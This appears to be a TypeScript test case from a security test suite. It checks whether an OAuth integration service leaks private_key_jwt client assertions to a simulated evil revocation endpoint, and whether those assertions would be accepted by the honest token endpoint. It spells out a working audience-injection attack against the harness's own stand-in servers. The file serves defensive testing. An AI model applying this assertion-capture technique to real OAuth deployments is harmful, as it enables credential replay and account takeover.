import { exportJWK, generateKeyPair, jwtVerify } from 'jose';
import { type Attack, stopped, succeeded } from './attack.ts';

/** Audience injection: an evil server has itself sent an assertion that is good at the honest one. */

export const audienceInjection: Attack[] = [
  {
    name: "audience injection: an evil endpoint beside the honest token endpoint is sent the client's assertion",
    falls: [['audience is the addressee']],
    async run(stage) {
      const id = stage.fresh('audience');
      const { privateKey, publicKey } = await generateKeyPair('ES256', { extractable: true });
      const private_key_jwk = { ...(await exportJWK(privateKey)), alg: 'ES256', kid: 'key-1' };
      const honest = JSON.parse(stage.providers.authorizationServer.definition).methods['web-jwt'];
      const { authorization_endpoint, token_endpoint } = honest;
      const web = {
        ...{ grant: 'authorization_code', authorization_endpoint, token_endpoint, token_endpoint_auth_method: 'private_key_jwt' },
        revocation_endpoint: `${stage.evil.url}/revoke`,
      };
      await stage.define(JSON.stringify({ id, name: 'Half evil', methods: { web } }));
      await stage.root.call('POST', '/v1/integrations', { body: { id, provider: id, client_id: 'app', private_key_jwk } });
      const body = { integration: id, end_user: { id: 'u1' }, import: { access_token: 'at', refresh_token: 'rt' } };
      const made = await stage.root.call<{ id: string }>('POST', '/v1/connections', { body });
      stage.mislead(() => '');
      await stage.root.call('DELETE', `/v1/connections/${made.id}`);
      const assertion = stage.captured.map((form) => form.get('client_assertion')).find((given) => given !== null);
      if (assertion === undefined || assertion === null) throw new Error('The evil endpoint was sent no assertion.');
      // The honest server takes assertions for its token endpoint or for itself, by itself or in a list.
      const audience = [token_endpoint, stage.providers.authorizationServer.issuer];
      return jwtVerify(assertion, publicKey, { issuer: 'app', subject: 'app', audience }).then(
        () => succeeded('the honest server would take it'),
        (error: unknown) => stopped(`at the honest server: ${error instanceof Error ? error.message : ''}`),
      );
    },
  },
];
